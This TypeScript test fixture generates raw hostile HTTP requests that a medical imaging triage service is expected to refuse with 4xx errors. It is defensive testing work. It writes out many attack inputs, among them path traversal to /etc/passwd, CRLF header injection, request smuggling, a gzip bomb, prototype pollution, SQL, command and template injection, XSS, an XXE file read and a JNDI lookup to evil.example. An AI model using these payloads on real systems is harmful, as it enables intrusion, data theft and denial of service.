import { gzipSync } from 'node:zlib'
import { studyUid } from '../service/fixtures.ts'

/** One request as raw bytes, because HTTP clients correct malformed requests. */
export interface HostileRequest {
  readonly name: string
  /** @param credentials a header line, or empty */
  readonly bytes: (credentials: string) => Buffer
}

interface Parts {
  readonly method?: string
  readonly target: string
  readonly headers?: readonly string[]
  readonly body?: string | Buffer
}

const uid = studyUid(1)

/** All hostile requests; each must be refused with 4xx. */
export function hostileRequests(): readonly HostileRequest[] {
  return [
    ...traversal(),
    ...oversized(),
    ...headerInjection(),
    ...prototypePollution(),
    ...malformedJson(),
    ...malformedDicomAndMultipart(),
    ...methodsAndProtocols(),
    ...injection(),
  ]
}

function request(name: string, { method = 'GET', target, headers = [], body = '' }: Parts): HostileRequest {
  const payload = Buffer.from(body)
  const length = payload.length > 0 && !headers.some((line) => /^(content-length|transfer-encoding):/i.test(line))
  return {
    name,
    bytes: (credentials) =>
      Buffer.concat([
        Buffer.from(
          [
            `${method} ${target} HTTP/1.1`,
            ...(headers.some((line) => /^host:/i.test(line)) ? [] : ['Host: 127.0.0.1']),
            'Connection: close',
            ...(credentials === '' ? [] : [credentials]),
            ...headers,
            ...(length ? [`Content-Length: ${payload.length}`] : []),
            '',
            '',
          ].join('\r\n'),
          'latin1',
        ),
        payload,
      ]),
  }
}

function raw(name: string, bytes: string | Buffer): HostileRequest {
  return { name, bytes: () => Buffer.from(bytes) }
}

function post(name: string, type: string, body: string | Buffer, target = '/api/studies'): HostileRequest {
  return request(name, { method: 'POST', target, headers: [`Content-Type: ${type}`], body })
}

function traversal(): HostileRequest[] {
  const places = ['/', '/assets/', '/studies/', '/api/studies/', '/fhir/Patient/', `/studies/${uid}/pictures/`]
  const ways = [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '%252e%252e%252fetc%252fpasswd',
    '....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '..%5c..%5ctoken',
    '..%c0%af..%c0%aftoken',
    '..;/token',
    'token%00.css',
    'worklist.css%00',
    'store.sqlite',
    '%ZZ',
    'file:///etc/passwd',
  ]
  return places.flatMap((place) => ways.map((way) => request(`${place}${way}`, { target: `${place}${way}` })))
}

function oversized(): HostileRequest[] {
  const json = 'Content-Type: application/json'
  const study = `{"studyInstanceUid":"${uid}","lane":"${'x'.repeat(17 * 1024)}"}`
  const zeros = gzipSync(Buffer.alloc(20 * 2 ** 20, '0'))
  const submit = (name: string, headers: readonly string[], body: string | Buffer) =>
    request(name, { method: 'POST', target: '/api/studies', headers: [json, ...headers], body })
  return [
    request('a long address', { target: `/${'a'.repeat(20_000)}` }),
    request('a long query', { target: `/login?code=${'a'.repeat(20_000)}` }),
    request('a code over its length', { target: `/login?code=${'a'.repeat(5000)}` }),
    request('a long header', { target: '/', headers: [`X-Long: ${'a'.repeat(20_000)}`] }),
    request('a long cookie', { target: '/', headers: [`Cookie: ${'a=b; '.repeat(5000)}`] }),
    request('many headers', { target: '/', headers: Array.from({ length: 3000 }, (_, i) => `X-${i}: ${i}`) }),
    submit('a body over the limit', [], study),
    submit('a body over the limit in chunks', ['Transfer-Encoding: chunked'], chunked(study)),
    submit('a body with a Content-Length of a gigabyte', ['Content-Length: 1073741824'], '{'),
    submit('a compression bomb', ['Content-Encoding: gzip'], zeros),
    submit('an unknown Content-Encoding', ['Content-Encoding: zstd-of-ours'], '{}'),
    submit('a body that is not gzip as declared', ['Content-Encoding: gzip'], '{}'),
    submit('deeply nested arrays', [], '['.repeat(8000) + ']'.repeat(8000)),
    submit('deeply nested objects', [], '{"a":'.repeat(2500) + '1' + '}'.repeat(2500)),
    submit('a UID over 64 characters', [], JSON.stringify({ studyInstanceUid: `1.${'2'.repeat(63)}` })),
    submit('a very long UID', [], JSON.stringify({ studyInstanceUid: '1.2'.repeat(4000) })),
    post('a sign-in over the limit', 'application/x-www-form-urlencoded', `token=${'a'.repeat(5000)}`, '/login'),
    post('a sign-in of many fields', 'application/x-www-form-urlencoded', 'a=1&'.repeat(1020), '/login'),
  ]
}

function chunked(text: string): string {
  return `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`
}

function headerInjection(): HostileRequest[] {
  const search = '/fhir/DiagnosticReport'
  const hosts = [
    'evil.example/path?x=',
    'user:password@evil.example',
    'a b',
    'evil.example#',
    '<script>',
    '127.0.0.1:99999',
    '[::1',
    '%0d%0a',
  ]
  const submit = { method: 'POST', target: '/api/studies', body: '{}' }
  return [
    ...hosts.map((host) => request(`Host: ${host}`, { target: search, headers: [`Host: ${host}`] })),
    request('two Host headers', { target: search, headers: ['Host: 127.0.0.1', 'Host: evil.example'] }),
    raw('no Host header', 'GET / HTTP/1.1\r\nConnection: close\r\n\r\n'),
    request('a line break in the address', { target: '/login?code=x%0d%0aSet-Cookie:%20evil=1' }),
    request('a line break in a path', { target: '/%0d%0aLocation:%20http://evil.example' }),
    request('a redirect elsewhere', { target: '/login?code=x&next=//evil.example' }),
    request('a NUL in a header', { target: '/', headers: ['X-Nul: a\0b'] }),
    request('a header without a name', { target: '/', headers: [': value'] }),
    request('a header with a blank in its name', { target: '/', headers: ['X Y: value'] }),
    request('conflicting Content-Length headers', { ...submit, headers: ['Content-Length: 2', 'Content-Length: 3'] }),
    request('a negative Content-Length', { ...submit, headers: ['Content-Length: -1'] }),
    request('a non-numeric Content-Length', { ...submit, headers: ['Content-Length: two'] }),
    request('Content-Length and chunked', { ...submit, headers: ['Content-Length: 2', 'Transfer-Encoding: chunked'] }),
    request('an unknown Transfer-Encoding', { ...submit, headers: ['Transfer-Encoding: xchunked'] }),
    request('an invalid chunk size', { ...submit, headers: ['Transfer-Encoding: chunked'], body: 'zz\r\n{}\r\n' }),
    request('an unknown Expect header', { ...submit, headers: ['Expect: the-unexpected'] }),
    request('a method override header', { target: '/nowhere', headers: ['X-HTTP-Method-Override: POST'] }),
  ]
}

function prototypePollution(): HostileRequest[] {
  const bodies = [
    `{"__proto__":{"polluted":true},"studyInstanceUid":"${uid}"}`,
    `{"constructor":{"prototype":{"polluted":true}},"studyInstanceUid":"${uid}"}`,
    `{"studyInstanceUid":{"__proto__":{"polluted":true}}}`,
    `{"__proto__":[]}`,
    `{"prototype":{"polluted":true},"studyInstanceUid":"${uid}"}`,
  ]
  const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']
  const forms = ['__proto__[token]=x', 'token[__proto__]=x', 'token[]=a&token[]=b', 'token=a&token=b', 'constructor=x']
  return [
    ...bodies.map((body) => post(body, 'application/json', body)),
    ...names.flatMap((name) => [
      request(`study ${name}`, { target: `/api/studies/${name}` }),
      request(`picture ${name}`, { target: `/studies/${uid}/pictures/${name}` }),
      request(`resource type ${name}`, { target: `/fhir/${name}` }),
      request(`resource ${name}`, { target: `/fhir/Patient/${name}` }),
      request(`search by ${name}`, { target: `/fhir/Patient?${name}=x` }),
    ]),
    request('search by __proto__[x]', { target: '/fhir/Patient?__proto__[polluted]=true' }),
    ...forms.map((form) => post(form, 'application/x-www-form-urlencoded', form, '/login')),
  ]
}

function malformedJson(): HostileRequest[] {
  const texts = ['', '{', '}', 'null', '[]', '"x"', '1', 'NaN', '{,}', "{'a':1}", '\u0000', '{"a":1}{"b":2}', '\ufeff{']
  const values: unknown[] = [
    ...[1, true, null, [], {}, '', ' ', '1..2', '.1', '1.', '-1', '1.2\n', '1.2 ', '１.２', '1.2\u0000', '1e3'],
    ...["1' OR '1'='1", '1.2; DROP TABLE jobs', '../1.2', '1.2/../../x', '${jndi:ldap://evil.example/x}'],
  ]
  const extra = [
    { lane: 'first' },
    { lane: ['urgent'] },
    { orthancId: '../../system' },
    { orthancId: '0123abcd' },
    { admin: true },
  ]
  return [
    ...texts.map((text) => post(`the text ${JSON.stringify(text)}`, 'application/json', text)),
    ...values.map((value) =>
      post(`the UID ${JSON.stringify(value)}`, 'application/json', JSON.stringify({ studyInstanceUid: value })),
    ),
    ...extra.map((more) =>
      post(JSON.stringify(more), 'application/json', JSON.stringify({ studyInstanceUid: uid, ...more })),
    ),
    post('UTF-8 declared as UTF-16', 'application/json; charset=utf-16', '{"a":1}'),
    post('an unknown character set', 'application/json; charset=of-ours', '{}'),
    post('invalid UTF-8', 'application/json', Buffer.from([0x7b, 0xff, 0xfe, 0x7d])),
    post('JSON sent as text', 'text/plain', JSON.stringify({ studyInstanceUid: uid })),
    post('XML with an entity', 'application/xml', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  ]
}

function malformedDicomAndMultipart(): HostileRequest[] {
  const preamble = Buffer.concat([Buffer.alloc(128), Buffer.from('DICM')])
  const endless = Buffer.concat([preamble, Buffer.from('0800050055 4e'.replace(' ', ''), 'hex'), Buffer.alloc(6, 255)])
  const related = 'multipart/related; type="application/dicom"'
  const part = '--b\r\nContent-Type: application/dicom\r\n\r\nDICM'
  return ['/api/studies', '/dicom-web/studies', '/instances'].flatMap((target) => [
    post(`${target}: only a preamble`, 'application/dicom', preamble, target),
    post(`${target}: an element of undefined length`, 'application/dicom', endless, target),
    post(`${target}: no multipart boundary`, related, part, target),
    post(`${target}: an unterminated multipart body`, `${related}; boundary=b`, part, target),
    post(`${target}: an oversized boundary`, `${related}; boundary=${'b'.repeat(8000)}`, part, target),
    post(`${target}: multipart form data`, 'multipart/form-data; boundary=b', `${part}\r\n--b--`, target),
    post(`${target}: path traversal in a file name`, 'multipart/form-data; boundary=b', climbingPart, target),
  ])
}

const climbingPart = '--b\r\nContent-Disposition: form-data; name="f"; filename="../../token"\r\n\r\nx\r\n--b--'

function methodsAndProtocols(): HostileRequest[] {
  const methods = ['PUT', 'PATCH', 'DELETE', 'TRACE', 'OPTIONS', 'PROPFIND', 'SEARCH', 'LINK', 'PURGE', 'MKCOL']
  return [
    ...methods.map((method) => request(`${method} a study`, { method, target: `/api/studies/${uid}` })),
    request('a WebSocket', { target: '/nowhere', headers: ['Upgrade: websocket', 'Sec-WebSocket-Version: 13'] }),
    request('an unknown method', { method: 'TRIAGE', target: '/' }),
    request('a method in lower case', { method: 'get', target: '/' }),
    request('an absolute URL of another host', { target: 'http://evil.example/nowhere' }),
    request('OPTIONS *', { method: 'OPTIONS', target: '*' }),
    raw('an unknown HTTP version', 'GET / HTTP/9.9\r\nHost: x\r\n\r\n'),
    raw('an SSH banner', 'SSH-2.0-OpenSSH_9.2\r\n\r\n'),
    raw('a TLS handshake', Buffer.from('16030100c2010000be0303', 'hex')),
    raw('an HTTP/2 preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    raw('random bytes', Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 7919 + 13) % 256))),
  ]
}

function injection(): HostileRequest[] {
  const texts = [
    "' OR '1'='1",
    '1;DROP TABLE studies',
    '${7*7}',
    '{{7*7}}',
    '<script>alert(1)</script>',
    '`id`',
    '$(id)',
  ]
  return texts.flatMap((text) => {
    const part = encodeURIComponent(text)
    return [
      request(`a study named ${text}`, { target: `/api/studies/${part}` }),
      request(`a retry of ${text}`, {
        method: 'POST',
        target: `/api/studies/${part}/retry`,
        headers: ['X-Lung-Triage: 1'],
      }),
      request(`a picture of ${text}`, { target: `/studies/${part}/pictures/0` }),
      request(`a search of ${text}`, { target: `/fhir/${part}?_id=x` }),
      request(`a date ${text}`, { target: `/fhir/DiagnosticReport?date=${part}` }),
      request(`a count ${text}`, { target: `/fhir/DiagnosticReport?_count=${part}` }),
    ]
  })
}
